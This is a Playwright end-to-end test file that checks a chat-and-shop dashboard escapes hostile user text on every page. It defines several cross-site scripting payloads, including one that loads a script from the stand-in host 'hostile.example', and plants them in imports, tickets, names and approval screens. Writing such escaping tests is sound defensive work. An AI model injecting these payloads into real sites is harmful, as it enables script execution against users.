// Text of customers, shops and clients that wants to be markup or script stays text on every page that shows it.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { type BrowserContext, expect, type Page, test } from "@playwright/test";
import pg from "pg";
import { newId } from "@/lib/core/ids";
import { type Stack, startStack } from "@/scripts/stack";
import { admin } from "./admin-command";
import { Assistant } from "./assistant";
import { answerConsent } from "./consent-driver";
import { fillFeed } from "./feed";
import { hydrated } from "./hydrated";
import { seedApproval } from "./seed-approval";
import { expectNoProblems, type Watch, watchBrowser } from "./watch-browser";

test.describe.configure({ mode: "serial" });

/** A host that must never be asked for anything. */
const HOST = "hostile.example";
const RUN = "window.__ran=1";
/** Each would run, load something or break out where text is not escaped. */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload=${RUN}><image href="https://${HOST}/i"></svg>`,
  `</title></textarea></script><script src="https://${HOST}/s.js"></script>`,
  `![pixel](https://${HOST}/p.png) <iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `javascript:${RUN}//'"--></style><base href="https://${HOST}/">`,
];
/** All of them, for texts that are long enough. */
const ALL = PAYLOADS.join(" ");
const OWNER = { email: "owner@example.com", password: "a long enough password" };

let stack: Stack;
let database: pg.Client;
let context: BrowserContext;
let page: Page;
let watch: Watch;
let organisation: string;
let project: string;
const assistants: Assistant[] = [];

test.beforeAll(async ({ browser }) => {
  test.setTimeout(120_000);
  stack = await startStack();
  database = new pg.Client({ connectionString: stack.databaseUrl });
  await database.connect();
  const folder = mkdtempSync(path.join(os.tmpdir(), "caramel-hostile-"));
  try {
    ({ id: organisation } = await admin<{ id: string }>(
      stack,
      ...["organisation", "create", "--name", PAYLOADS[1] as string, "--plan", "business"],
      ...["--owner-email", OWNER.email, "--owner-password", OWNER.password],
    ));
    ({ id: project } = await admin<{ id: string }>(
      stack,
      ...["project", "create", "--organisation", organisation, "--name", PAYLOADS[0] as string],
    ));
    const history = path.join(folder, "<img src=x onerror=alert(1)>.jsonl");
    writeFileSync(
      history,
      [...PAYLOADS.map(hostileConversation), `{"id": "<img src=x onerror=${RUN}>"}`].join("\n"),
    );
    await admin(stack, "import", "conversations", "--project", project, history);
    const catalogue = path.join(folder, "products.csv");
    writeFileSync(catalogue, hostileCatalogue());
    await admin(stack, "import", "products", "--project", project, catalogue);
    await admin(stack, "key", "create", "--organisation", organisation, "--name", PAYLOADS[1] as string);
    await admin(stack, "chatbot", "create", "--project", project, "--name", PAYLOADS[0] as string);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
  // Wide enough for the facts beside a conversation.
  context = await browser.newContext({ baseURL: stack.baseUrl, viewport: { width: 1440, height: 900 } });
  watch = await watchBrowser(context, stack.baseUrl);
  page = await context.newPage();
});

test.afterAll(async () => {
  for (const assistant of assistants) await assistant.stop();
  await database?.end();
  await stack?.stop();
});

function hostileConversation(payload: string, index: number): string {
  return JSON.stringify({
    id: `hostile ${index} ${payload}`,
    platform: "web",
    visitor: { id: payload, name: payload, email: `${payload}@example.com`, phone: payload.slice(0, 50) },
    turns: [
      { role: "user", content: `needle ${payload}` },
      { role: "agent", content: ALL },
    ],
  });
}

/** Shopify's columns. Bodies may hold HTML there, which has to come out as text. */
function hostileCatalogue(): string {
  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const rows = PAYLOADS.map((payload, index) =>
    [
      `hostile-${index}`,
      `needle ${payload}`,
      `<p>Soft</p>${ALL}`,
      payload,
      payload,
      payload,
      "true",
      "Size",
      payload,
      payload,
      "10",
    ].map(cell),
  );
  const head = [
    "Handle",
    "Title",
    "Body (HTML)",
    "Vendor",
    "Type",
    "Tags",
    "Published",
    "Option1 Name",
    "Option1 Value",
    "Variant SKU",
    "Variant Price",
  ];
  return `${[head, ...rows].map((row) => row.join(",")).join("\n")}\n`;
}

/** The page shows the text, and nothing of it has become an element, a script or a request. */
async function expectHarmless(texts: string[]) {
  await hydrated(page);
  for (const text of texts) {
    await expect(page.locator("body"), text).toContainText(text);
  }
  const traces = await page.evaluate((host) => {
    const made = [
      ...document.querySelectorAll("iframe, base, img[onerror], svg[onload], [srcdoc], [onload], [onerror]"),
    ];
    const pointing = [...document.querySelectorAll("[src], [href]")].filter(
      (element) =>
        /javascript:/i.test(element.getAttribute("href") ?? "") ||
        // Our own addresses may carry what was searched for.
        new URL(element.getAttribute("src") ?? element.getAttribute("href") ?? "", location.href).host ===
          host,
    );
    return {
      ran: "__ran" in window,
      elements: [...made, ...pointing].map((element) => element.outerHTML.slice(0, 200)),
    };
  }, HOST);
  expect(traces).toEqual({ ran: false, elements: [] });
  expect(watch.foreign).toEqual([]);
  expectNoProblems(watch, stack);
}

test("the sign-in page gives nothing back from its address", async () => {
  await page.goto(
    `/sign-in?error=${encodeURIComponent(ALL)}&callbackUrl=${encodeURIComponent(`https://${HOST}/`)}`,
  );
  await expectHarmless(["The sign-in did not work."]);
  await page.getByLabel("E-mail").fill(OWNER.email);
  await page.getByLabel("Password").fill(OWNER.password);
  await page.getByRole("button", { name: "Sign in", exact: true }).click();
  await page.waitForURL(`${stack.baseUrl}/p/${project}`);
});

test("overview, conversations and transcripts", async () => {
  await expectHarmless([`needle ${PAYLOADS[0]}`, PAYLOADS[1] as string]);
  await page.goto(`/p/${project}/conversations`);
  // The list tells who wrote, and what was written last.
  await expectHarmless(PAYLOADS.map((payload) => payload.trim()));
  await page.goto(`/p/${project}/conversations?q=needle`);
  await expect(page.getByRole("list", { name: "List of conversations" }).locator("mark")).toHaveCount(
    PAYLOADS.length,
  );
  await expectHarmless([]);
  await page.goto(`/p/${project}/conversations?q=${encodeURIComponent(ALL.slice(0, 200))}`);
  await expectHarmless([]);
  const { rows } = await database.query("SELECT id FROM conversation WHERE project_id = $1 ORDER BY id", [
    project,
  ]);
  expect(rows).toHaveLength(PAYLOADS.length);
  for (const { id } of rows) {
    await page.goto(`/p/${project}/conversations/${id}`);
    await expectHarmless([ALL]);
  }
});

test("tickets and leads made of a conversation", async () => {
  const { rows } = await database.query(
    "SELECT id FROM conversation WHERE project_id = $1 AND external_id LIKE 'hostile 0%'",
    [project],
  );
  const conversation = `/p/${project}/conversations/${rows[0].id}`;
  const [payload = ""] = PAYLOADS;
  await page.goto(conversation);
  await hydrated(page);
  await page.getByRole("button", { name: "Save as lead" }).click();
  const dialog = page.getByRole("dialog");
  await expect(dialog.getByLabel("Name")).toHaveValue(payload);
  await dialog.getByRole("button", { name: "Save lead" }).click();
  await expect(dialog.getByText("This is not an e-mail address", { exact: false })).toBeVisible();
  await dialog.getByLabel("E-mail").fill("eve@example.com");
  await dialog.getByLabel("Phone").fill("555 1234");
  await dialog.getByRole("button", { name: "Save lead" }).click();
  await expect(page.getByText("Saved as lead", { exact: true })).toBeVisible();
  await expectHarmless([`Lead: ${payload}`]);
  await page.goto(`/p/${project}/leads`);
  await expectHarmless([payload, "eve@example.com"]);

  await page.goto(conversation);
  await hydrated(page);
  await page.getByRole("button", { name: "Open a ticket" }).click();
  await expect(dialog.getByLabel("Subject")).toHaveValue(`needle ${payload}`);
  await dialog.getByRole("button", { name: "Open ticket" }).click();
  await page.waitForURL(/\/tickets\/tkt_/);
  await expectHarmless([`needle ${payload}`]);
  await page.getByLabel("Your text").fill(ALL);
  await page.getByRole("button", { name: "Add note" }).click();
  await expect(page.getByText("Note added", { exact: true })).toBeVisible();
  await page.getByRole("combobox", { name: "Status", exact: true }).selectOption("in_progress");
  await expect(page.getByRole("list", { name: "History" })).toContainText("New → In progress");
  await expectHarmless([ALL]);
  await page.goto(`/p/${project}/tickets?q=needle`);
  await expectHarmless([`needle ${payload}`]);
  await page.goto(conversation);
  await expectHarmless([`needle ${payload}`]);
  await expect(page.getByRole("button", { name: "Save as lead" })).toHaveCount(0);
});

test("what chatbots learn, and its passages", async () => {
  await page.goto(`/p/${project}/knowledge`);
  await hydrated(page);
  await page.getByRole("button", { name: "Add knowledge" }).click();
  await page.getByRole("tab", { name: "Question" }).click();
  const dialog = page.getByRole("dialog");
  const [payload = ""] = PAYLOADS;
  await dialog.getByRole("textbox", { name: "Question" }).fill(`needle ${payload}`);
  await dialog.getByLabel("Answer").fill(ALL);
  await dialog.getByRole("button", { name: "Add question" }).click();
  await expect(page.getByText("Added", { exact: true })).toBeVisible();
  await expectHarmless([`needle ${payload}`]);
  await page.getByRole("link", { name: `needle ${payload}` }).click();
  await page.waitForURL(/\/knowledge\/src_/);
  await expect(page.getByLabel("Answer")).toHaveValue(ALL);
  await expectHarmless([`needle ${payload}`]);
});

test("products, with HTML in their descriptions", async () => {
  await page.goto(`/p/${project}/products`);
  await expectHarmless(PAYLOADS.map((payload) => `needle ${payload}`));
  await page.goto(`/p/${project}/products?q=needle`);
  await expectHarmless([`needle ${PAYLOADS[0]}`]);
  const { rows } = await database.query("SELECT id, title FROM product WHERE project_id = $1", [project]);
  expect(rows).toHaveLength(PAYLOADS.length);
  for (const { id, title } of rows) {
    await page.goto(`/p/${project}/products/${id}`);
    await expectHarmless([title, "Soft"]);
  }
});

test("feeds", async () => {
  const feed = await fillFeed(database, project, PAYLOADS[0]);
  await page.goto(`/p/${project}/products/feeds`);
  await expectHarmless([PAYLOADS[0] as string]);
  await page.goto(`/p/${project}/products/feeds/${feed}`);
  await expectHarmless([PAYLOADS[0] as string, "answers with the error 503"]);
});

test("imports, chatbots, keys, projects and members", async () => {
  const { rows } = await database.query("SELECT id FROM import_run WHERE rejected > 0 AND project_id = $1", [
    project,
  ]);
  expect(rows).toHaveLength(1);
  await page.goto(`/p/${project}/import/${rows[0].id}`);
  await expectHarmless([
    "<img src=x onerror=alert(1)>.jsonl",
    "turns is missing",
    `<img src=x onerror=${RUN}>`,
  ]);
  await page.goto(`/p/${project}/import`);
  await expectHarmless(["<img src=x onerror=alert(1)>.jsonl"]);
  await page.goto(`/p/${project}/chatbots`);
  await expectHarmless([PAYLOADS[0] as string]);
  await page.goto(`/o/${organisation}/api-keys`);
  await expectHarmless([PAYLOADS[1] as string]);
  await page.goto(`/o/${organisation}/projects`);
  await expectHarmless([PAYLOADS[0] as string, PAYLOADS[1] as string]);
  await page.goto("/account");
  await hydrated(page);
  await page.getByLabel("Name", { exact: true }).fill(PAYLOADS[1] as string);
  await page.getByRole("button", { name: "Save name" }).click();
  await expect(page.getByText("Name saved", { exact: true })).toBeVisible();
  await page.goto(`/o/${organisation}/members`);
  await expectHarmless([PAYLOADS[1] as string]);
  await page.goto(`/o/${organisation}/settings`);
  await expectHarmless([PAYLOADS[1] as string]);
});

test("sales rules, settings and the history of a chatbot", async () => {
  const { rows } = await database.query("SELECT id FROM chatbot WHERE project_id = $1 AND name = $2", [
    project,
    PAYLOADS[0],
  ]);
  const chatbot = rows[0].id as string;
  await database.query(
    `INSERT INTO sales_rule (project_id, id, chatbot_id, name, trigger, page_part, message)
     VALUES ($1, $2, $3, $4, 'page_address', $4, $5)`,
    [project, newId("salesRule"), chatbot, PAYLOADS[1], ALL.slice(0, 500)],
  );
  const change = newId("revision");
  await database.query(
    `INSERT INTO revision (project_id, id, subject_kind, subject_id, action, before, after, actor_kind)
     VALUES ($1, $2, 'chatbot', $3, 'update', $4, $5, 'operator')`,
    [
      project,
      change,
      chatbot,
      { instructions: PAYLOADS.join("\n"), description: PAYLOADS[1] },
      { instructions: ALL, description: PAYLOADS[2] },
    ],
  );
  await page.goto(`/p/${project}/chatbots/${chatbot}`);
  await expectHarmless([PAYLOADS[0] as string]);
  await page.goto(`/p/${project}/chatbots/${chatbot}/sales-rules`);
  await expectHarmless([PAYLOADS[1] as string, ALL.slice(0, 500)]);
  for (const address of [`chatbots/${chatbot}/history`, "revisions", `revisions/${change}`]) {
    await page.goto(`/p/${project}/${address}`);
    await expectHarmless([ALL, PAYLOADS[1] as string, PAYLOADS[2] as string]);
  }
});

test("a client's name on the consent screen, and its label in the list", async () => {
  for (const payload of PAYLOADS.slice(0, 3)) {
    const assistant = await Assistant.start(payload, `${stack.baseUrl}/mcp`);
    assistants.push(assistant);
    await page.goto(await assistant.ask());
    await expect(page.getByRole("button", { name: "Allow", exact: true })).toBeVisible();
    // Names are shortened; the beginning tells.
    await expectHarmless([payload.slice(0, 30)]);
    const label = payload.slice(0, 80);
    await answerConsent(page, page.url(), { ...OWNER, choices: { label } });
    await assistant.answer();
    await expectHarmlessApproval(label);
    await page.goto(`/p/${project}/integrations/mcp`);
    await expectHarmless([label]);
    await page.getByRole("button", { name: `Revoke ${label}`, exact: true }).click();
    await expect(page.getByRole("alertdialog")).toContainText(label);
    await page.getByRole("alertdialog").getByRole("button", { name: "Revoke connection" }).click();
    await expect(page.getByText("Connection revoked", { exact: true })).toBeVisible();
    await expectHarmless([label]);
  }
});

/** What an assistant wants to write, and its names, where a person decides on it. */
async function expectHarmlessApproval(label: string) {
  const { rows } = await database.query("SELECT id FROM connection WHERE label = $1", [label]);
  const changes = PAYLOADS.map((payload) => ({ field: payload, before: payload, after: `new ${payload}` }));
  const asked = { projectId: project, connectionId: rows[0].id as string, changes };
  const waiting = await seedApproval(database, asked);
  const refused = await seedApproval(database, { ...asked, state: "refused", reason: ALL.slice(0, 500) });
  await page.goto(`/p/${project}/approvals`);
  await expectHarmless([label]);
  await page.goto(`/p/${project}/approvals/${waiting}`);
  await expectHarmless([label, ...changes.map(({ after }) => after)]);
  await page.goto(`/p/${project}/approvals/${refused}`);
  await expectHarmless([ALL.slice(0, 500)]);
}
